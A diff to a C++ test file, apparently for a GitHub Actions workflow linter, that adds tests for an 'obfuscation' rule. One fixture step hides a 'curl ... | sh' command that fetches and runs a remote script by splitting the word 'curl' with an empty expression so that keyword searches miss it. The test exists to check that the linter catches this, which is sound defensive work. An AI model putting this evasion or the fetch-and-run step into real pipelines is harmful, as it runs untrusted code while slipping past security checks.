@@ -51,14 +51,31 @@ TEST(ObfuscationTest, ConstantExpressionsPointAtTheComputation) {
 }
 
 TEST(ObfuscationTest, LiteralsListsAndContextsAreFine) {
-  auto f = LintWorkflow(
-      Steps(R"(      - run: echo "${{ true }} ${{ 'x' }} ${{ github.ref }}"
-        if: false
-      - run: echo "${{ format('{0}', github.ref) }}"
+  // A value that is exactly one literal expression hides nothing.
+  auto f = LintWorkflow(Steps(R"(      - run: echo "${{ github.ref }}"
+        if: ${{ false }}
+        env:
+          FLAG: ${{ true }}
+          NAME: ${{ 'x' }}
+      - run: echo "${{ format('{0}', github.ref) }} ${{ '${{' }}"
         if: contains(fromJSON('["refs/heads/main"]'), github.ref)
 )"),
-      "obfuscation");
+                        "obfuscation");
   EXPECT_TRUE(f.empty());
+}
+
+TEST(ObfuscationTest, LiteralsInsideTextSplitWords) {
+  // `c${{ '' }}url` runs curl while no search for "curl" finds it.
+  auto f = LintWorkflow(
+      Steps(R"(      - run: c${{ '' }}url -sSf https://example.com | sh
+      - run: echo "${{ true }} ${{ github.ref }}"
+)"),
+      "obfuscation");
+  ASSERT_EQ(f.size(), 2u);
+  EXPECT_EQ(f[0].location->route, "jobs.a.steps[0].run");
+  EXPECT_EQ(f[0].location->span.length, 2);
+  EXPECT_NE(f[0].message.find("literal"), std::string::npos);
+  EXPECT_EQ(f[1].location->route, "jobs.a.steps[1].run");
 }
 
 }  // namespace
